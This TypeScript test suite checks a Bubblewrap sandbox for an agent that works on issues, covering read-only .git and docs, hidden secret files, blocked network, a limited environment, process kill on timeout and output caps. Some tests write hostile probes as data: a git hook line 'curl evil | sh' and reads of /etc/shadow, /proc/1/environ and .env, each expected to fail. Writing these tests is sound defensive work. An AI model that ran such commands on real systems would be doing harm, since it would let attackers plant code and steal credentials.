import { execFileSync } from "node:child_process";
import { once } from "node:events";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { expectProcessGone } from "../helpers/process-gone.ts";
import { processRunning } from "../helpers/process-running.ts";
import { waitFor } from "../helpers/wait-for.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseAgentConfig } from "../../src/config/parse-agent-config.ts";
import { PathPolicy } from "../../src/guardrails/paths/path-policy.ts";
import { BubblewrapSandbox, probeBubblewrap } from "../../src/sandbox/bubblewrap-sandbox.ts";

const root = realpathSync(mkdtempSync(path.join(os.tmpdir(), "issue-agent-bwrap-")));
const workspace = path.join(root, "repo");
const appSecretFile = path.join(root, "app-private-key.pem");

function sandbox(overrides: { network?: boolean; paths?: object } = {}) {
  const config = parseAgentConfig({
    paths: { read_only: ["docs/**"], forbidden: ["config/**", ".env*"], ...overrides.paths },
  });
  return new BubblewrapSandbox({
    workspace,
    scratch: path.join(root, "scratch"),
    access: { network: overrides.network ?? false },
    policy: new PathPolicy(config.paths),
  });
}
const run = (
  command: string,
  options: { timeoutMs?: number; maxOutputBytes?: number; network?: boolean } = {},
) =>
  sandbox({ network: options.network ?? false }).run({
    command,
    cwd: workspace,
    timeoutMs: options.timeoutMs ?? 15_000,
    maxOutputBytes: options.maxOutputBytes ?? 20_000,
  });

beforeAll(async () => {
  expect(await probeBubblewrap()).toEqual({ available: true });
  for (const dir of [".git/hooks", "src", "docs", "config"])
    mkdirSync(path.join(workspace, dir), { recursive: true });
  writeFileSync(path.join(workspace, "src/app.js"), "console.log('app')\n");
  writeFileSync(path.join(workspace, "docs/guide.md"), "guide\n");
  writeFileSync(path.join(workspace, "config/secrets.yml"), "password: hunter2\n");
  writeFileSync(path.join(workspace, ".env"), "API_KEY=sk-live-secret\n");
  writeFileSync(path.join(workspace, ".git/config"), "[core]\n");
  writeFileSync(appSecretFile, "-----BEGIN PRIVATE KEY-----\n");
  symlinkSync(path.join(workspace, ".env"), path.join(workspace, "src/env-link"));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe("BubblewrapSandbox", () => {
  it("runs in the workspace and may change ordinary files there", async () => {
    const result = await run("pwd && echo changed > src/new.js && cat src/new.js");
    expect(result).toMatchObject({ exitCode: 0 });
    expect(result.output).toBe(`${workspace}\nchanged\n`);
    expect(readFileSync(path.join(workspace, "src/new.js"), "utf8")).toBe("changed\n");
  });

  it("keeps .git read-only: no hook can be planted", async () => {
    const result = await run("echo 'curl evil | sh' > .git/hooks/pre-commit");
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toContain("Read-only file system");
    expect(() => readFileSync(path.join(workspace, ".git/hooks/pre-commit"))).toThrow();
  });

  it("mounts read_only paths read-only and hides forbidden ones, symlinks included", async () => {
    const result = await run(
      "echo x >> docs/guide.md; echo 'docs:'$?; cat config/secrets.yml; echo 'config:'$?; ls config | wc -l; cat .env; cat src/env-link; echo end",
    );
    expect(result.output).toContain("Read-only file system");
    expect(result.output).toContain("docs:1");
    expect(result.output).not.toContain("hunter2");
    expect(result.output).not.toContain("sk-live-secret");
    expect(readFileSync(path.join(workspace, "docs/guide.md"), "utf8")).toBe("guide\n");
  });

  it("mounts a directory a read-only rule names read-only, with all it holds", async () => {
    const result = await sandbox({ paths: { read_only: ["docs"] } }).run({
      command:
        "echo x >> docs/guide.md; echo guide:$?; touch docs/new.md; echo new:$?; echo y > top.txt; echo top:$?; rm top.txt",
      cwd: workspace,
      timeoutMs: 20_000,
      maxOutputBytes: 100_000,
    });
    expect(result.output).toContain("guide:1");
    expect(result.output).toContain("new:1");
    expect(result.output).toContain("top:0");
    expect(readFileSync(path.join(workspace, "docs/guide.md"), "utf8")).toBe("guide\n");
  });

  it("runs nothing while a forbidden file it cannot hide is in the workspace (a name that is not UTF-8)", async () => {
    // `src/<0xff>.pem`: the app reads the name with U+FFFD in it, a path that does not exist.
    const odd = Buffer.concat([Buffer.from(`${workspace}/src/`), Buffer.from([0xff]), Buffer.from(".pem")]);
    writeFileSync(odd, "SECRET_ODD_NAME\n");
    try {
      const result = await sandbox({ paths: { forbidden: ["**/*.pem"] } }).run({
        command: "cat src/*.pem; echo ran",
        cwd: workspace,
        timeoutMs: 20_000,
        maxOutputBytes: 100_000,
      });
      expect(result.output).not.toContain("SECRET_ODD_NAME");
      expect(result.output).not.toContain("ran");
      expect(result.output).toMatch(/forbidden file "src\/\uFFFD\.pem" cannot be hidden/);
      expect(result.exitCode).toBe(126);
    } finally {
      rmSync(odd, { force: true });
    }
  });

  it("keeps a forbidden file where its rule names it: its directories cannot be moved", async () => {
    const rules = sandbox({ paths: { forbidden: ["config/secrets.yml", "src/deep/inner/key.txt"] } });
    mkdirSync(path.join(workspace, "src/deep/inner"), { recursive: true });
    writeFileSync(path.join(workspace, "src/deep/inner/key.txt"), "SECRET_DEEP_KEY\n");
    const command = (text: string) =>
      rules.run({ command: text, cwd: workspace, timeoutMs: 20_000, maxOutputBytes: 100_000 });
    try {
      const moved = await command(
        "mv config config2; echo config:$?; mv src/deep/inner src/deep/moved; echo inner:$?; mv src/deep src/d2; echo deep:$?",
      );
      expect(moved.output).toMatch(/config:1[\s\S]*inner:1[\s\S]*deep:1/);
      const read = await command(
        "cat config2/secrets.yml src/deep/moved/key.txt src/d2/inner/key.txt; echo read",
      );
      expect(read.output).not.toContain("hunter2");
      expect(read.output).not.toContain("SECRET_DEEP_KEY");
      expect(readFileSync(path.join(workspace, "config/secrets.yml"), "utf8")).toBe("password: hunter2\n");
    } finally {
      // Put back what a failing run moved, for the other tests.
      for (const [from, to] of [
        ["config2", "config"],
        ["src/deep/moved", "src/deep/inner"],
        ["src/d2", "src/deep"],
      ] as const)
        if (existsSync(path.join(workspace, from)))
          renameSync(path.join(workspace, from), path.join(workspace, to));
      rmSync(path.join(workspace, "src/deep"), { recursive: true, force: true });
    }
  });

  it("shows a read-only system, a private /tmp and nothing of the app's own files", async () => {
    const result = await run(
      `touch /usr/x 2>&1; cat ${appSecretFile} 2>&1; ls /root 2>&1; cat /etc/shadow | wc -c; echo tmp > /tmp/t && cat /tmp/t; ls ${process.cwd()} 2>&1 | head -1`,
    );
    expect(result.output).toContain("Read-only file system");
    expect(result.output).not.toContain("BEGIN PRIVATE KEY");
    expect(result.output).toMatch(/No such file or directory|cannot access/);
    expect(result.output).toContain("tmp");
    expect(result.output).not.toContain("package.json");
  });

  it("has no environment beyond the allowlist", async () => {
    process.env.ISSUE_AGENT_TEST_SECRET = "sk-never-visible";
    try {
      const result = await run("env; cat /proc/1/environ | tr '\\0' '\\n'");
      expect(result.output).not.toContain("sk-never-visible");
      expect(result.output).toContain("HOME=");
    } finally {
      delete process.env.ISSUE_AGENT_TEST_SECRET;
    }
  });

  it("cannot reach the network unless the config allows it", async () => {
    const server = http.createServer((_req, res) => res.end("reached"));
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    const probe = `node -e "fetch('${url}').then(r => r.text()).then(t => console.log(t), e => console.log('blocked', e.cause?.code ?? e.message))"`;
    try {
      expect((await run(probe)).output).toContain("blocked");
      // With the network on, the sandbox has its own namespace: host loopback stays out of reach.
      expect((await run(probe, { network: true })).output).toContain("blocked");
    } finally {
      server.close();
    }
  });

  it("kills a background process that tries to outlive the timeout", async () => {
    const marker = `issue-agent-escape-${process.pid}-${Date.now()}`;
    const result = await run(
      `(setsid nohup bash -c 'exec -a ${marker} sleep 120' >/dev/null 2>&1 &); sleep 60`,
      { timeoutMs: 700 },
    );
    expect(result.timedOut).toBe(true);
    await expectProcessGone(marker);
  });

  it.each([
    { network: false, name: "without network" },
    { network: true, name: "with network (unshare and slirp4netns around bwrap)" },
  ])("keeps every process of a command in the one process group a stop kills, $name", async ({ network }) => {
    // A stop kills the spawned program's process group. The sandbox's own init must be in it at
    // every moment: bubblewrap sets its die-with-parent signal only after laying out the sandbox,
    // so an init that had left the group (bwrap --new-session) outlived a stop that came in that
    // window, and the command ran to its end (the lost Ctrl-C and Stop clicks seen in CI).
    const marker = `issue-agent-group-${process.pid}-${Date.now()}`;
    const stop = new AbortController();
    const running = sandbox({ network }).run({
      command: `exec -a ${marker} sleep 60`,
      cwd: workspace,
      timeoutMs: 30_000,
      maxOutputBytes: 1_000,
      signal: stop.signal,
    });
    // `exec -a` names the command `<marker> 60`; bwrap's own arguments hold `<marker> sleep 60`.
    await waitFor(() => processRunning(`${marker} 60`), 10_000, 20);
    const commandPid = Number(execFileSync("pgrep", ["-f", `^${marker} 60`], { encoding: "utf8" }).trim());
    const table = execFileSync("ps", ["-eo", "pid=,ppid=,pgid=,sid=,tty=,args="], { encoding: "utf8" })
      .split("\n")
      .map((line) => line.trim().split(/\s+/))
      .filter((fields) => fields.length >= 6)
      .map(([pid, ppid, pgid, sid, tty]) => ({
        pid: Number(pid),
        ppid: Number(ppid),
        pgid: Number(pgid),
        sid: Number(sid),
        tty: tty!,
      }));
    const command = table.find((row) => row.pid === commandPid)!;
    // From the command up to the program this process spawned (bwrap, or its cgroup wrapper).
    const chain: typeof table = [];
    for (let row = command; row && row.pid !== process.pid; row = table.find((up) => up.pid === row.ppid)!)
      chain.push(row);
    const spawned = chain.at(-1)!;
    expect(table.find((row) => row.pid === spawned.ppid)?.pid).toBe(process.pid);
    expect(chain.length).toBeGreaterThan(2);
    expect(chain.map((row) => row.pgid)).toEqual(chain.map(() => spawned.pid));
    // The spawned program leads a session of its own without a terminal, so nothing in the sandbox
    // has one to inject input into (the reason bwrap's --new-session would otherwise be wanted).
    expect(chain.map((row) => [row.sid, row.tty])).toEqual(chain.map(() => [spawned.pid, "?"]));
    stop.abort();
    expect((await running).durationMs).toBeLessThan(20_000);
    await expectProcessGone(marker);
  });

  it("caps a command that prints 100 MB", async () => {
    const result = await run("head -c 100000000 /dev/zero | tr '\\0' y; echo; echo DONE", {
      timeoutMs: 30_000,
      maxOutputBytes: 4_000,
    });
    expect(result.output.length).toBeLessThan(4_100);
    expect(result.output.trimEnd().endsWith("DONE")).toBe(true);
  });
});
